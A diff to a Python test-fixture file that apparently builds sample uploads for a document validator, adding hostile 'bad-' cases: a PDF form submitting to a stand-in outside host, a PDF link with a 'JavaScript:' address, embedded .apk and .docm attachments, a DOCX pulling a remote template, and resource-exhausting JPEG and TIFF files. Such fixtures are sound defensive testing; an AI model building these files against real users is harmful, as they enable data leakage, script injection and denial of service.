@@ -157,6 +157,33 @@ def picture(kind: str = "JPEG", size: tuple[int, int] = (64, 48), mode: str = "R
     return whole.getvalue()
 
 
+def scan(sheets: int = 3, kind: str = "TIFF") -> bytes:
+    """A scan of several sheets."""
+    whole = io.BytesIO()
+    first, *more = (Image.new("1", (120, 160), number % 2) for number in range(sheets))
+    first.save(whole, kind, save_all=True, append_images=more)
+    return whole.getvalue()
+
+
+def many_scans() -> bytes:
+    """A small JPEG that asks for the same work again and again."""
+    whole = io.BytesIO()
+    Image.new("RGB", (800, 800)).save(whole, "JPEG", progressive=True)
+    made = whole.getvalue()
+    first, end = made.find(b"\xff\xda"), made.rfind(b"\xff\xd9")
+    return made[:end] + made[first:end] * 90 + made[end:]
+
+
+def sends(made: pikepdf.Pdf) -> None:
+    action = Dictionary(S=Name.SubmitForm, F=String("https://elsewhere.example"))
+    made.pages[0].Annots = Array([Dictionary(Subtype=Name.Widget, A=action)])
+
+
+def script_address(made: pikepdf.Pdf) -> None:
+    action = Dictionary(S=Name.URI, URI=String(" JavaScript:alert(1)"))
+    made.pages[0].Annots = Array([Dictionary(Subtype=Name.Link, A=action)])
+
+
 def packed(**files: bytes) -> bytes:
     made = io.BytesIO()
     with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as archive:
@@ -166,6 +193,23 @@ def packed(**files: bytes) -> bytes:
 
 
 DOCX = packed(**{"[Content_Types].xml": b"<x/>", "word/document.xml": b"<x/>"})
+TEMPLATE = (
+    b'<Relationships><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/'
+    b'2006/relationships/attachedTemplate" Target="%s" TargetMode="External"/></Relationships>'
+)
+
+
+def docx_with(target: bytes) -> bytes:
+    """A DOCX whose template lies at ``target``."""
+    return packed(
+        **{
+            "[Content_Types].xml": b"<x/>",
+            "word/document.xml": b"<x/>",
+            "word/_rels/settings.xml.rels": TEMPLATE % target,
+        }
+    )
+
+
 OFD = packed(**{"OFD.xml": b"<x/>"})
 
 
@@ -186,6 +230,11 @@ def seeds() -> dict[str, bytes]:
         "one-bit.png": picture("PNG", mode="1"),
         "a.webp": picture("WEBP"),
         "a.heic": HEIC,
+        "a.tif": scan(),
+        "one-sheet.tif": picture("TIFF"),
+        "a.bmp": picture("BMP"),
+        "a.avif": picture("AVIF"),
+        "office.docx": docx_with(rb"file:///C:\Office\Normal.dotm"),
         "a.docx": DOCX,
         "a.ofd": OFD,
         "bad-locked.pdf": pdf(encryption=pikepdf.Encryption(owner="o", user="u")),
@@ -199,6 +248,13 @@ def seeds() -> dict[str, bytes]:
         "bad-attachment.pdf": pdf(attachment("a.xml")),
         "bad-program.pdf": pdf(attachment("a.exe", archival=True)),
         "bad-escape.pdf": hand_written(b"<</S/#4Aava#53cript/JS(x)>>"),
+        "bad-sends.pdf": pdf(sends),
+        "bad-address.pdf": pdf(script_address),
+        "bad-macros.pdf": pdf(attachment("a.docm ", archival=True)),
+        "bad-apk.pdf": pdf(attachment("a.apk", archival=True)),
+        "bad-template.docx": docx_with(b"https://elsewhere.example/a.dotm"),
+        "bad-scans.jpg": many_scans(),
+        "bad-sheets.tif": scan(101),
         "bad-garbage.pdf": b"%PDF-1.4\ngarbage\n%%EOF",
         "bad-stream-words.pdf": b"%PDF-1.4\n" + b"stream\n" * 9000 + b"%%EOF",
         "bad-zip.zip": packed(a=b"x"),
